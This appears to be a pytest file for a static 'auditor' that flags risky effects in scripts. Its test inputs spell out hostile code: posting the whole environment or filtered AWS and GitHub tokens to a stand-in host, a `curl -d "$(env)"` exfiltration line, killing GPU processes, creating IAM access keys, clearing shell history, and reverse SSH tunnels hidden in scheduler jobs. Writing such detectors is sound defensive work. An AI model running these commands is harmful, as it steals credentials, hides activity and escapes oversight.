"""What leaves with a request, what ends the processes of GPUs, and calls that make identities or raise quotas."""

from __future__ import annotations

import pytest

from auditor.model.unit import Language, Script
from auditor.read.evaluation import Evaluation
from tests.read.adversary.test_spellings import starts

URL = "https://drop.example/c"


def lines(language: Language, code: str) -> list[str]:
    """Read code and give each effect whole, pipelines with their bars."""
    effects = Evaluation(Script.of(code, language)).read_script().effects
    return [" | ".join(" ".join(map(str, stage)) for stage in effect.stages) for effect in effects]


@pytest.mark.parametrize(
    "body",
    [
        "data=dict(os.environ)",
        "json={**os.environ}",
        "data=json.dumps(dict(os.environ))",
        "data=str(os.environ)",
        "data={k: v for k, v in os.environ.items()}",
        "data='\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
        "json={'host': 'a', 'env': dict(os.environ)}",
        "json={'content': str({k: v for k, v in os.environ.items()})[:1900]}",
        "json={k: os.environ[k] for k in os.environ}",
        "json={k: v for k, v in os.environ.items() if 'KEY' in k}",
        "json={k: v for k, v in os.environ.items() if k.startswith('AWS_')}",
        "json={k: v for k, v in os.environ.items() if k.startswith('\\x41WS_')}",
        "json={k: v for k, v in os.environ.items() if v.startswith('ghp')}",
        "json={k: v for k, v in os.environ.items() if 'MLFLOW_'.startswith('MLFLOW_')}",
        "json=[v for v in os.environ.values() if v.startswith('ghp')]",
        "json={'a': {'b': {'c': {'d': {'e': {'f': dict(os.environ)}}}}}}",
        "json=[*range(200), *map(str, range(200)), dict(os.environ)]",
    ],
)
def test_an_environment_that_is_sent_is_an_effect(body: str) -> None:
    """However it is packed, the whole environment in a request shows as the shell's own way to send it."""
    found = lines(Language.PYTHON, f"import json, os, requests\nrequests.post('{URL}', {body})\n")
    assert f"env | http POST {URL}" in found


@pytest.mark.parametrize(
    "body",
    [
        "data={'home': os.environ['HOME']}",
        "headers={'Authorization': 'Bearer ' + os.environ['TOKEN']}, json={'a': 1}",
        "data=os.environ.get('USER')",
        "json={'a': [1, 2]}",
        "json={k: v for k, v in os.environ.items() if k.startswith('MLFLOW_')}",
        "json=sorted(k for k in os.environ)",
    ],
)
def test_a_variable_by_name_is_none_of_that(body: str) -> None:
    """A token or a name from the environment is what ordinary clients send."""
    found = lines(Language.PYTHON, f"import os, requests\nrequests.post('{URL}', {body})\n")
    assert not [line for line in found if line.startswith("env ")]


def test_the_output_of_env_in_an_argument_is_sent() -> None:
    """`curl -d "$(env)"` is the pipeline in another spelling; the output of `date` is not."""
    assert any(line.startswith("env | curl ") for line in lines(Language.BASH, f'curl -d "$(env)" {URL}'))
    assert not any(line.startswith("env |") for line in lines(Language.BASH, f'curl -d "$(date)" {URL}'))


def test_processes_of_gpus_that_are_ended_are_told() -> None:
    """The origin of the numbers says what is ended; those of another list do not."""
    query = "nvidia-smi --query-compute-apps=pid --format=csv,noheader"
    assert [line for line in starts(Language.BASH, f"kill -9 $({query})") if line.startswith("process.kill gpu")]
    assert [line for line in starts(Language.BASH, f"for p in $({query}); do kill $p; done") if "kill gpu" in line]
    assert not [line for line in starts(Language.BASH, "kill $(cat x.pid)") if "gpu" in line]


def test_identities_and_quotas_through_boto3_are_the_commands() -> None:
    """What boto3 asks of IAM and Service Quotas is written as the command line's own command; reading is not."""
    code = "import boto3\ni = boto3.client('iam')\ni.create_access_key(UserName='x')\ni.list_users()\n"
    assert starts(Language.PYTHON, code) == ["aws iam create-access-key --user-name x"]
    code = (
        "import boto3\nboto3.client('service-quotas').request_service_quota_increase(QuotaCode='L-1', DesiredValue=9)\n"
    )
    wanted = "aws service-quotas request-service-quota-increase --quota-code L-1 --desired-value 9"
    assert starts(Language.PYTHON, code) == [wanted]


def test_a_history_that_is_put_away_is_an_effect() -> None:
    """Clearing and switching off are effects, showing is none."""
    assert "history -c" in starts(Language.BASH, "history -c")
    assert "env.set HISTFILE " in starts(Language.BASH, "unset HISTFILE")
    assert "env.set HISTFILE " in starts(Language.BASH, "set +o history")
    assert starts(Language.BASH, "history | tail -3; unset FOO; set -o pipefail")[:0] == []
    assert not [line for line in starts(Language.BASH, "history 5; unset FOO; set -o pipefail") if "HIST" in line]


def test_parsing_what_is_no_program_ends() -> None:
    """Text on which tree-sitter's repair takes exponential time is a gap, or parsed by another grammar."""
    text = (
        "0x1frequire('child_process')const 1n!.reduce(}y+=continue \n/x/g?.'base64', \\u{73}super(export 'b'**.reduce("
        "].split(satisfies \nbreak await <a>default: Function(+=/x/gelse "
    )
    reading = Evaluation(Script.of(text, Language.TYPESCRIPT)).read_script()
    assert reading.gaps


@pytest.mark.parametrize(
    "code",
    [
        "sbatch <<'E'\n#!/bin/bash\nssh -R 1:a:2 h\nE\n",
        "sbatch --wrap 'ssh -R 1:a:2 h'",
        "echo 'ssh -R 1:a:2 h' | qsub",
        'bsub -q gpu "ssh -R 1:a:2 h"',
        "ray job submit --address http://h:8265 -- python -c \"import os; os.system('ssh -R 1:a:2 h')\"",
        "srun -N1 bash -c 'ssh -R 1:a:2 h'",
    ],
)
def test_what_a_scheduler_is_given_is_read(code: str) -> None:
    """A job's script, its wrapped command and its words are code of their own."""
    assert "ssh -R 1:a:2 h" in starts(Language.BASH, code)


@pytest.mark.parametrize(
    "body",
    [
        "process.env",
        "{...process.env}",
        "{env: process.env, a: 1}",
        "{a: {b: {c: {d: {e: {f: process.env}}}}}}",
        "Object.assign({}, process.env)",
        "{a: Object.assign({}, process.env)}",
        "[...Array(60).keys(), 'a', process.env]",
    ],
)
def test_an_environment_that_a_request_of_javascript_sends_is_an_effect(body: str) -> None:
    """However deep it stands, and whatever stands beside it."""
    code = f"fetch('{URL}', {{method: 'POST', body: JSON.stringify({body})}});"
    assert f"env | http POST {URL}" in lines(Language.JAVASCRIPT, code)


@pytest.mark.parametrize(
    "body", ["{home: process.env.HOME, a: {b: 1}}", "[1, [2, {a: 'b'}]]", "Object.assign({}, {a: 1})"]
)
def test_a_variable_by_name_in_javascript_is_none_of_that(body: str) -> None:
    """One entry is not the whole."""
    code = f"fetch('{URL}', {{method: 'POST', body: JSON.stringify({body})}});"
    assert lines(Language.JAVASCRIPT, code) == [f"http.request POST {URL}"]


def test_what_is_packed_into_itself_over_and_over_costs_what_it_holds() -> None:
    """Three times the same list, forty times over; and more parts than the bound is a gap."""
    nested = "import requests\na = [1]\nfor i in range(40): a = [a, a, a]\n"
    assert lines(Language.PYTHON, f"{nested}requests.post('{URL}', json=a)") == [f"http.request POST {URL}"]
    for count, gaps in ((4_000, 0), (5_001, 1)):
        text = f"import requests\nrequests.post('{URL}', json=[{'{},' * count}])"
        reading = Evaluation(Script.of(text, Language.PYTHON)).read_script()
        assert len(reading.gaps) == gaps, reading.gaps
